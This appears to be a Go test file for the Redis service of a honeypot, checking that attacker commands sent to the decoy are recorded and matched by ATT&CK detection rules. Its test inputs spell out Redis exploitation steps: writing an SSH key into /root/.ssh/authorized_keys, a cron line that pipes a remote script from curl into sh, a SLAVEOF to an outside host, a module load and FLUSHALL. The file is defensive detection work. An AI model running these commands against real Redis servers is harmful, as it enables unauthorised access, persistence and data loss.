package redis

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/services/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

// serveRedis runs the redis service of one decky on ip:port (port 0: any)
// until the test ends. Deckies live in 127.0.0.0/8 but not on 127.0.0.1,
// where this machine may run a real Redis.
func serveRedis(t testing.TB, ip string, port int, cfg map[string]string) (string, *servicetest.Events) {
	t.Helper()
	d := model.Decky{Name: "cache-01", Hostname: "cache-01", Distro: "debian", NmapOS: "linux", Seed: 77, IP: ip}
	env, evs := servicetest.NewEnv(Service{}, d, cfg)
	return servicetest.Start(t, Service{}, env, net.JoinHostPort(ip, fmt.Sprint(port))), evs
}

func redisCLI(t *testing.T, addr string, args ...string) string {
	t.Helper()
	bin := testenv.Binary(t, "redis-cli")
	host, port, _ := net.SplitHostPort(addr)
	cmd := exec.Command(bin, append([]string{"--no-auth-warning", "-h", host, "-p", port}, args...)...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("redis-cli %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// rulePattern compiles the regex of a shipped ATT&CK rule, so the test
// proves the recorded command text is what the rule pack matches.
func rulePattern(t *testing.T, id string) *regexp.Regexp {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "..", "rules", "ttp", id+".yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var r struct {
		Match struct {
			Pattern string `yaml:"pattern"`
		} `yaml:"match"`
	}
	if err := yaml.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	return regexp.MustCompile(r.Match.Pattern)
}

const sshKey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDtest attacker@kali"

func TestRedisCLIPersistenceSequenceIsRecordedAndTaggable(t *testing.T) {
	addr, evs := serveRedis(t, "127.83.0.2", 0, nil)
	if got := redisCLI(t, addr, "CONFIG", "SET", "dir", "/root/.ssh"); got != "OK" {
		t.Fatalf("CONFIG SET dir: %q", got)
	}
	redisCLI(t, addr, "CONFIG", "SET", "dbfilename", "authorized_keys")
	if got := redisCLI(t, addr, "CONFIG", "GET", "dir"); got != "dir\n/root/.ssh" {
		t.Errorf("CONFIG GET dir after SET: %q", got)
	}
	// The SET and SAVE come in one connection, as the exploit scripts do
	// it; redis-cli's -x would read stdin, so use its interactive pipe.
	bin := testenv.Binary(t, "redis-cli")
	host, port, _ := net.SplitHostPort(addr)
	cmd := exec.Command(bin, "-h", host, "-p", port)
	cmd.Stdin = strings.NewReader("SET x \"\\n\\n" + sshKey + "\\n\\n\"\nSAVE\nGET x\n")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("redis-cli: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "OK\nOK\n") || !strings.Contains(string(out), sshKey) {
		t.Errorf("redis-cli pipe output %q", out)
	}

	cmds := evs.Wait(t, "redis_command", 6)
	byRule := map[string][]string{}
	for _, id := range []string{"R0026", "R0070"} {
		re := rulePattern(t, id)
		for _, ev := range cmds {
			if re.MatchString(ev.Fields["command"]) {
				byRule[id] = append(byRule[id], ev.Fields["command"])
			}
		}
	}
	if got := strings.Join(byRule["R0070"], "|"); got != "CONFIG SET dir /root/.ssh|CONFIG SET dbfilename authorized_keys" {
		t.Errorf("R0070 matched %q", got)
	}
	if got := byRule["R0026"]; len(got) != 1 || !strings.HasPrefix(got[0], `SET x "\n\nssh-rsa`) {
		t.Errorf("R0026 matched %q", got)
	}
	p := evs.Wait(t, "redis_persistence", 1)[0].Fields
	if p["path"] != "/root/.ssh/authorized_keys" || p["target"] != "ssh_authorized_keys" || p["payload_kind"] != "ssh_key" ||
		!strings.Contains(p["payload"], "ssh-rsa AAAA") {
		t.Errorf("redis_persistence fields %v", p)
	}
	for _, ev := range cmds {
		if ev.SrcIP != "127.0.0.1" || ev.SessionID == "" || ev.Fields["cmd"] == "" {
			t.Errorf("event lacks attribution: %+v", ev)
		}
	}
}

func TestRedisCronLineMatchesTheCronRule(t *testing.T) {
	addr, evs := serveRedis(t, "127.83.0.3", 0, nil)
	redisCLI(t, addr, "CONFIG", "SET", "dir", "/var/spool/cron/crontabs")
	redisCLI(t, addr, "SET", "backup", "\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n")
	re := rulePattern(t, "R0071")
	n := 0
	for _, ev := range evs.Wait(t, "redis_command", 2) {
		if re.MatchString(ev.Fields["command"]) {
			n++
		}
	}
	if n != 2 {
		t.Errorf("R0071 matched %d of the two commands: %v", n, evs.OfType("redis_command"))
	}
}

func TestRedisCLIAuthIsCapturedAndRequired(t *testing.T) {
	addr, evs := serveRedis(t, "127.83.0.4", 0, map[string]string{"password": "s3cret"})
	if got := redisCLI(t, addr, "GET", "x"); !strings.Contains(got, "NOAUTH Authentication required.") {
		t.Errorf("GET without AUTH: %q", got)
	}
	if got := redisCLI(t, addr, "-a", "wrong-pass", "PING"); !strings.Contains(got, "WRONGPASS") {
		t.Errorf("PING with a wrong password: %q", got)
	}
	if got := redisCLI(t, addr, "-a", "s3cret", "PING"); got != "PONG" {
		t.Errorf("PING with the password: %q", got)
	}
	auths := evs.Wait(t, "auth", 2)
	want := []struct{ secret, outcome string }{{"wrong-pass", "failure"}, {"s3cret", "success"}}
	for i, w := range want {
		f := auths[i].Fields
		if f["principal"] != "default" || f["secret_printable"] != w.secret || f["outcome"] != w.outcome ||
			f["secret_kind"] != services.KindPlaintext || f["secret_b64"] == "" {
			t.Errorf("auth %d fields %v, want secret %q %s", i, f, w.secret, w.outcome)
		}
	}
}

func TestRedisCLIInfoAndKeyspaceShowThePersona(t *testing.T) {
	addr, _ := serveRedis(t, "127.83.0.5", 0, map[string]string{"version": "7.2.4"})
	info := strings.ReplaceAll(redisCLI(t, addr, "INFO", "server"), "\r", "")
	if !strings.HasPrefix(info, "# Server\nredis_version:7.2.4\n") || !strings.Contains(info, "os:Linux 6.1.0") {
		t.Errorf("INFO server:\n%s", info)
	}
	keys := redisCLI(t, addr, "KEYS", "session:*")
	if n := len(strings.Fields(keys)); n < 4 {
		t.Errorf("KEYS session:* = %q, want the seeded sessions", keys)
	}
	if got := redisCLI(t, addr, "CONFIG", "GET", "db*"); got != "dbfilename\ndump.rdb" {
		t.Errorf("CONFIG GET db*: %q", got)
	}
}

func TestReplicaofModuleLoadAndFlushallAreRecorded(t *testing.T) {
	addr, evs := serveRedis(t, "127.83.0.6", 0, nil)
	redisCLI(t, addr, "SLAVEOF", "203.0.113.7", "21000")
	if got := strings.ReplaceAll(redisCLI(t, addr, "INFO", "replication"), "\r", ""); !strings.Contains(got, "role:slave\nmaster_host:203.0.113.7\nmaster_port:21000") {
		t.Errorf("INFO replication after SLAVEOF:\n%s", got)
	}
	if got := redisCLI(t, addr, "MODULE", "LOAD", "/tmp/exp.so"); !strings.Contains(got, "Error loading the extension") {
		t.Errorf("MODULE LOAD: %q", got)
	}
	redisCLI(t, addr, "FLUSHALL")
	if got := redisCLI(t, addr, "DBSIZE"); got != "0" {
		t.Errorf("DBSIZE after FLUSHALL: %q", got)
	}
	if r := evs.Wait(t, "redis_replicaof", 1)[0].Fields; r["master_host"] != "203.0.113.7" || r["master_port"] != "21000" {
		t.Errorf("redis_replicaof %v", r)
	}
	if m := evs.Wait(t, "redis_module_load", 1)[0].Fields; m["path"] != "/tmp/exp.so" {
		t.Errorf("redis_module_load %v", m)
	}
	if f := evs.Wait(t, "redis_flush", 1)[0].Fields; f["cmd"] != "FLUSHALL" || f["keys_removed"] == "0" {
		t.Errorf("redis_flush %v", f)
	}
}

// exchange writes in and returns everything the server sends until it
// closes the connection or goes quiet for a second.
func exchange(t *testing.T, addr, in string) string {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte(in))
	var b strings.Builder
	r := bufio.NewReader(c)
	for {
		c.SetReadDeadline(time.Now().Add(time.Second))
		ch, err := r.ReadByte()
		if err != nil {
			return b.String()
		}
		b.WriteByte(ch)
	}
}

func TestMalformedInputGetsRedisErrorsAndProtocolErrorEvents(t *testing.T) {
	addr, evs := serveRedis(t, "127.83.0.7", 0, nil)
	tests := []struct{ in, want string }{
		{"*9223372036854775807\r\n$1\r\na\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
		{"*2\r\n$4\r\nECHO\r\n$99999999999\r\n", "-ERR Protocol error: invalid bulk length\r\n"},
		{"*1\r\n:1\r\n", "-ERR Protocol error: expected '$', got ':'\r\n"},
		{"SET a \"unterminated\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n"},
		{strings.Repeat("A", maxInline+100), "-ERR Protocol error: too big inline request\r\n"},
	}
	for _, tc := range tests {
		if got := exchange(t, addr, tc.in); got != tc.want {
			t.Errorf("%.40q: got %q, want %q", tc.in, got, tc.want)
		}
	}
	if n := len(evs.Wait(t, "protocol_error", len(tests))); n != len(tests) {
		t.Errorf("%d protocol_error events, want %d", n, len(tests))
	}
	// Inline commands and pipelines still work, and an HTTP request is
	// answered like Redis answers it (what nmap's GetRequest probe sees).
	if got := exchange(t, addr, "PING\r\nECHO \"a\\x41\"\r\n*1\r\n$4\r\nQUIT\r\n"); got != "+PONG\r\n$2\r\naA\r\n+OK\r\n" {
		t.Errorf("pipeline: %q", got)
	}
	if got := exchange(t, addr, "GET / HTTP/1.0\r\n\r\n"); got != "-ERR wrong number of arguments for 'get' command\r\n" {
		t.Errorf("HTTP probe: %q", got)
	}
}

func TestNmapIdentifiesRedis(t *testing.T) {
	addr, _ := serveRedis(t, "127.83.0.8", 6379, map[string]string{"version": "6.2.14"})
	host, _, _ := net.SplitHostPort(addr)
	out := servicetest.Nmap(t, host, []string{"6379"})
	if !regexp.MustCompile(`6379/tcp\s+open\s+redis\s+Redis key-value store 6\.2\.14`).MatchString(out) {
		t.Errorf("nmap did not identify Redis 6.2.14:\n%s", out)
	}
}

func TestGlobMatch(t *testing.T) {
	tests := []struct {
		pat, s string
		want   bool
	}{
		{"*", "anything", true}, {"session:*", "session:ab", true}, {"session:*", "cache:x", false},
		{"h?llo", "hello", true}, {"h[ae]llo", "hallo", true}, {"h[^e]llo", "hello", false},
		{"h[a-b]llo", "hbllo", true}, {`h\*llo`, "h*llo", true}, {"*a*a*a*a*a*a*b", strings.Repeat("a", 200), false},
		{"db*", "dbfilename", true}, {"[", "[", true},
	}
	for _, tc := range tests {
		if got := globMatch(tc.pat, tc.s); got != tc.want {
			t.Errorf("globMatch(%q, %q) = %v", tc.pat, tc.s, got)
		}
	}
}

// FuzzReadCommand feeds hostile bytes to the parser, split at the fuzzer's
// choice so partial reads are exercised: it must return, never panic, and
// never hand back more than the bounds allow.
func FuzzReadCommand(f *testing.F) {
	for _, s := range []string{
		"*1\r\n$4\r\nPING\r\n", "*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nv\r\n", "PING\r\n", `SET k "a\x41\n" 'b\''` + "\r\n",
		"*9223372036854775807\r\n", "*-1\r\n", "*1\r\n$-1\r\n", "*1\r\n$3\r\nabcd\r\n", "\"unbalanced\r\n", "\r\n\r\n",
		"*2\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n*1\r\n$4\r\nQUIT\r\n",
	} {
		f.Add([]byte(s), uint8(len(s)/2))
	}
	f.Fuzz(func(t *testing.T, in []byte, split uint8) {
		cut := min(int(split), len(in))
		rd := newReader(&twoPart{a: in[:cut], b: in[cut:]})
		for range 1000 {
			args, err := rd.ReadCommand()
			if err != nil {
				return
			}
			total := 0
			for _, a := range args {
				total += len(a)
				if len(a) > max(maxBulk, maxInline) {
					t.Fatalf("argument of %d bytes", len(a))
				}
			}
			if len(args) > maxArgs && total > maxInline {
				t.Fatalf("%d args, %d bytes", len(args), total)
			}
			for _, a := range args {
				repr(a, maxArgRepr)
			}
		}
	})
}

// FuzzSession sends hostile bytes to a live server: every input must end
// in a closed or answering connection, never a hang or a crash, and the
// server must still answer PING afterwards.
func FuzzSession(f *testing.F) {
	for _, s := range []string{
		"*1\r\n$4\r\nINFO\r\n", "CONFIG SET dir /root/.ssh\r\nSAVE\r\n", "AUTH x\r\nHELLO 3 AUTH a b\r\n",
		"SET k v EX 10\r\nTTL k\r\nKEYS *\r\nSCAN 0 MATCH k*\r\n", "SLAVEOF 1.2.3.4 6379\r\nROLE\r\nMODULE LOAD /x.so\r\n",
		"FLUSHALL\r\nDBSIZE\r\nINCR n\r\nCLIENT LIST\r\n", "EVAL \"return package.loadlib\" 0\r\n", "*5\r\n",
	} {
		f.Add([]byte(s))
	}
	addr, _ := serveRedis(f, "127.83.0.9", 0, nil)
	f.Fuzz(func(t *testing.T, in []byte) {
		if !servicetest.Drain(t, addr, in, 10*time.Second) {
			t.Fatalf("server neither answered nor closed within 10s for %q", in)
		}
		p, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer p.Close()
		p.Write([]byte("PING\r\n"))
		p.SetReadDeadline(time.Now().Add(5 * time.Second))
		line, _ := bufio.NewReader(p).ReadString('\n')
		if line != "+PONG\r\n" {
			t.Fatalf("PING after %q: %q", in, line)
		}
	})
}

// twoPart reads a then b, so a command can straddle two reads.
type twoPart struct{ a, b []byte }

func (r *twoPart) Read(p []byte) (int, error) {
	if len(r.a) > 0 {
		n := copy(p, r.a)
		r.a = r.a[n:]
		return n, nil
	}
	if len(r.b) > 0 {
		n := copy(p, r.b)
		r.b = r.b[n:]
		return n, nil
	}
	return 0, io.EOF
}

func TestPersonaIsStablePerDeckyAndVariesAcrossTheFleet(t *testing.T) {
	newP := func(seed uint64) persona {
		d := model.Decky{Name: "x", Distro: "ubuntu22", Seed: seed}
		env := &services.Env{Decky: d, Emitter: services.NewEmitter("redis", services.EmitterOptions{Decky: d.Name})}
		return newPersona(d, "", "", env.Rand(), time.Unix(1e9, 0))
	}
	if a, b := newP(1), newP(1); a != b {
		t.Errorf("same seed, different personas: %+v / %+v", a, b)
	}
	seen := map[string]bool{}
	for seed := range uint64(40) {
		p := newP(seed)
		seen[p.version] = true
		if !strings.HasPrefix(p.os, "Linux 5.15.0-") {
			t.Errorf("ubuntu22 persona os %q", p.os)
		}
	}
	if len(seen) < 3 {
		t.Errorf("40 deckies share %d versions: %v", len(seen), seen)
	}
}
